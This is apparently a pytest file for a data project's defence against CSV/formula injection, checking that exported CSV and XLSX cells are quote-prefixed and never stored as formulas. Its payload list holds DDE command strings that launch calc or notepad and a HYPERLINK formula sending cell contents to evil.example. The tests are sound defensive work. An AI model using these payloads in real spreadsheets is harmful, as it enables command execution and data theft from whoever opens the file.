"""CSV / formula injection on export (issue 11, item 6; OWASP "CSV Injection").

Every CSV and XLSX cultnet writes passes its cells through ``cultnet.export_safety``: the network
export (``etl.write.write_csv``, ``cultnet export --format csv``) and the explorer's table
downloads (``ui.plots.table_csv`` / ``table_xlsx``). Checked on the red team's payload
``-2+cmd|' /C calc'!A0`` and the other OWASP triggers, read back with the csv module and with
openpyxl (no cell of the workbook is a formula).
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

from cultnet.export_safety import is_risky, neutralize_cell, neutralize_frame, write_xlsx, xlsx_bytes

PAYLOADS = [
    "-2+cmd|' /C calc'!A0",  # the red team's enterprise id (DDE)
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+1+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width equals sign (U+FF1D)
    "＋1", "－1", "＠SUM(A1)",
    "-",  # a lone sign is not a number
    "-inf",
]
SAFE = ["Dalian", "大连", "", " =1+1 is text once it starts with a space", "2024Q1", "a=b"]
NUMBERS_AS_TEXT = ["-2.5", "+3", "1e-4", "-1E+06", ".5", "42"]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_triggers_get_a_quote(value):
    assert is_risky(value)
    assert neutralize_cell(value) == "'" + value


@pytest.mark.parametrize("value", SAFE + NUMBERS_AS_TEXT)
def test_other_text_and_numbers_as_text_are_unchanged(value):
    assert not is_risky(value)
    assert neutralize_cell(value) == value


@pytest.mark.parametrize("value", [-2.5, 0, 3, -7, float("nan"), None, True, pd.Timestamp("2024-01-01")])
def test_non_text_values_are_unchanged(value):
    out = neutralize_cell(value)
    assert out is value or (out != out and value != value)


def _frame() -> pd.DataFrame:
    return pd.DataFrame({"source": ["-2+cmd|' /C calc'!A0", "Dalian", "@evil"],
                         "target": ["=1+1", "Shenyang", "Anshan"],
                         "weight": [-2.5, 3.0, 1.0], "year": [2024, 2024, -1]})


def test_frame_cells_names_and_index_are_neutralized_and_numbers_stay_numeric():
    df = _frame()
    df.index = ["=idx", "b", "c"]
    df = df.rename(columns={"year": "=year"})
    out = neutralize_frame(df)
    assert list(out["source"]) == ["'-2+cmd|' /C calc'!A0", "Dalian", "'@evil"]
    assert list(out["target"]) == ["'=1+1", "Shenyang", "Anshan"]
    assert list(out.columns) == ["source", "target", "weight", "'=year"]
    assert list(out.index) == ["'=idx", "b", "c"]
    assert out["weight"].dtype == df["weight"].dtype and list(out["weight"]) == [-2.5, 3.0, 1.0]
    assert list(out["'=year"]) == [2024, 2024, -1]
    assert list(df["source"])[0] == "-2+cmd|' /C calc'!A0"  # the input is not modified


def test_network_csv_export(tmp_path):
    """``cultnet export --format csv`` writes through etl.write.write_csv."""
    from cultnet.etl.write import write_network

    path = tmp_path / "net.csv"
    write_network(_frame(), None, path, "csv", directed=True)
    with open(path, newline="", encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0] == ["source", "target", "weight", "year"]
    assert rows[1] == ["'-2+cmd|' /C calc'!A0", "'=1+1", "-2.5", "2024"]
    assert rows[3] == ["'@evil", "Anshan", "1", "-1"]  # numbers written as numbers, signs kept
    assert not any(is_risky(cell) for row in rows for cell in row)


def _formula_cells(data: bytes) -> list[str]:
    wb = openpyxl.load_workbook(io.BytesIO(data))  # formulas are kept as formulas (not data_only)
    return [c.coordinate for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def test_xlsx_has_no_formula_and_shows_the_text_as_written(tmp_path):
    df = _frame().rename(columns={"year": "=year"})
    data = xlsx_bytes(df, sheet="t", index=False)
    assert _formula_cells(data) == []
    ws = openpyxl.load_workbook(io.BytesIO(data))["t"]
    assert ws["A2"].value == "-2+cmd|' /C calc'!A0" and ws["A2"].data_type == "s"
    assert ws["A2"].quotePrefix  # Excel keeps it text, without showing an apostrophe
    assert ws["D1"].value == "=year" and ws["D1"].data_type == "s"
    assert ws["C2"].value == -2.5 and ws["C2"].data_type == "n"
    assert ws["A3"].value == "Dalian" and not ws["A3"].quotePrefix
    path = tmp_path / "t.xlsx"
    write_xlsx(df, path)
    assert _formula_cells(path.read_bytes()) == []


def test_pandas_alone_would_write_a_formula():
    """Why write_xlsx exists: openpyxl stores any string starting with '=' as a formula."""
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as xw:
        pd.DataFrame({"a": ["=1+1"]}).to_excel(xw, index=False)
    assert _formula_cells(buf.getvalue()) == ["A2"]


def test_explorer_table_downloads():
    from cultnet.ui import plots as P

    df = _frame()
    text = P.table_csv(df).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1][0] == "'-2+cmd|' /C calc'!A0" and rows[1][1] == "'=1+1"
    assert rows[1][2] == "-2.5"
    assert not any(is_risky(cell) for row in rows for cell in row)
    assert _formula_cells(P.table_xlsx(df, sheet="download")) == []
